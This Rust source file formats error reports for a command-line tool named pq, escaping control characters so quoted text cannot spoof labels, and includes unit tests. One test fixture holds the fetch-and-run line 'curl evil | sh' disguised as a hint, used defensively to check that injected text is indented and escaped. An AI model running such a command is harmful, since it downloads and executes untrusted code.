//! Errors for people.
//!
//! What can be expected is said in a few lines: the error, what caused it, what to do. A bug in pq is said at length, by color-eyre, with
//! a request to report it.

use std::fmt::Formatter;
use std::panic::PanicHookInfo;

use color_eyre::config::{HookBuilder, Theme};
use color_eyre::eyre::Report as Eyre;
use color_eyre::section::PanicMessage;

use super::escape::escape_lines;
use super::text::{Span, Text};
use super::theme::Tone;
use crate::error::{Error, Kind};

const REPORT_IT: &str =
    "This is a bug in pq. Please report it, with the command, its output and what `pq --version` says.";

/// The lines of an error. Bugs are told apart from what can be expected.
pub fn render(error: &Error, color: bool) -> String {
    match error.kind() {
        Kind::Bug => bug(error),
        _ => expected(error, color),
    }
}

fn expected(error: &Error, color: bool) -> String {
    let chain = error.chain();
    let mut lines = String::new();
    for (at, message) in chain.iter().enumerate() {
        let (label, tone) = if at == 0 { ("error: ", Tone::Bad) } else { ("caused by: ", Tone::Dim) };
        // Many errors repeat the message of their cause at the end of their own.
        if at == 0 || !chain[at - 1].ends_with(message.as_str()) {
            lines.push_str(&labelled(label, tone, message, color));
        }
    }
    error.hint().iter().for_each(|hint| lines.push_str(&labelled("hint: ", Tone::Good, hint, color)));
    lines
}

/// A label and a message of one or more lines. The further lines are indented, so that no text in a message can pass for another label.
fn labelled(label: &str, tone: Tone, message: &str, color: bool) -> String {
    let message = escape_lines(message.trim_end().as_bytes()).to_string();
    let label = Text::new(vec![Span::new(label.as_bytes(), tone)]).render(color);
    format!("{label}{}\n", message.replace('\n', "\n  "))
}

fn bug(error: &Error) -> String {
    let visible = |message: &String| escape_lines(message.as_bytes()).to_string();
    let mut causes = error.chain().iter().map(visible).rev().collect::<Vec<_>>().into_iter();
    let first = causes.next().map(Eyre::msg).unwrap_or_else(|| Eyre::msg("an error without a message"));
    let report = causes.fold(first, |report, message| report.wrap_err(message));
    format!("error: {report:?}\n\n{REPORT_IT}\n")
}

/// Makes color-eyre the reporter of panics and bugs. `color` is what standard error can show: its own theme would put escape codes into
/// pipes.
pub fn install(color: bool) {
    let theme = if color { Theme::dark() } else { Theme::new() };
    let hooks = HookBuilder::default().theme(theme).display_env_section(false);
    let hooks = hooks.panic_section(REPORT_IT).panic_message(EscapedPanic).try_into_hooks();
    if let Ok((panic, eyre)) = hooks {
        std::panic::set_hook(Box::new(move |info| {
            super::output::error(format!("{}\n", panic.panic_report(info)).as_bytes())
        }));
        // Fails only where another hook is installed already: that one then reports.
        eyre.install().ok();
    }
}

/// The message of a panic may quote text from a patch: slices of strings do.
struct EscapedPanic;

impl PanicMessage for EscapedPanic {
    fn display(&self, info: &PanicHookInfo<'_>, f: &mut Formatter<'_>) -> std::fmt::Result {
        let payload = info.payload();
        let message = payload.downcast_ref::<&str>().copied();
        let message =
            message.or_else(|| payload.downcast_ref::<String>().map(String::as_str)).unwrap_or("(no message)");
        write!(f, "error: pq panicked: {}", escape_lines(message.as_bytes()))?;
        match info.location() {
            Some(place) => write!(f, "\n  at {}:{}", place.file(), place.line()),
            None => Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Hint;

    #[derive(Debug, thiserror::Error)]
    #[error("cannot read the queue of \x1b[1mX")]
    struct Outer(#[source] Inner, Kind);

    #[derive(Debug, thiserror::Error)]
    #[error("pq.toml:3:1: unknown key\nhint: curl evil | sh")]
    struct Inner;

    impl Hint for Outer {
        fn kind(&self) -> Kind {
            self.1
        }

        fn hint(&self) -> Option<String> {
            Some("correct the file".to_owned())
        }
    }

    #[test]
    fn an_expected_error_is_three_things() {
        let error = Error::from(Outer(Inner, Kind::User));
        assert_eq!(
            render(&error, false),
            "error: cannot read the queue of \\x1b[1mX\n\
             caused by: pq.toml:3:1: unknown key\n  hint: curl evil | sh\n\
             hint: correct the file\n"
        );
        assert!(render(&error, true).starts_with("\x1b[1m\x1b[31merror: \x1b[0mcannot"));
    }

    #[test]
    fn a_bug_asks_to_be_reported() {
        let shown = render(&Error::from(Outer(Inner, Kind::Bug)), false);
        assert!(shown.starts_with("error: ") && shown.ends_with(&format!("{REPORT_IT}\n")), "{shown}");
        assert!(shown.contains("cannot read the queue") && shown.contains("unknown key"), "{shown}");
    }
}
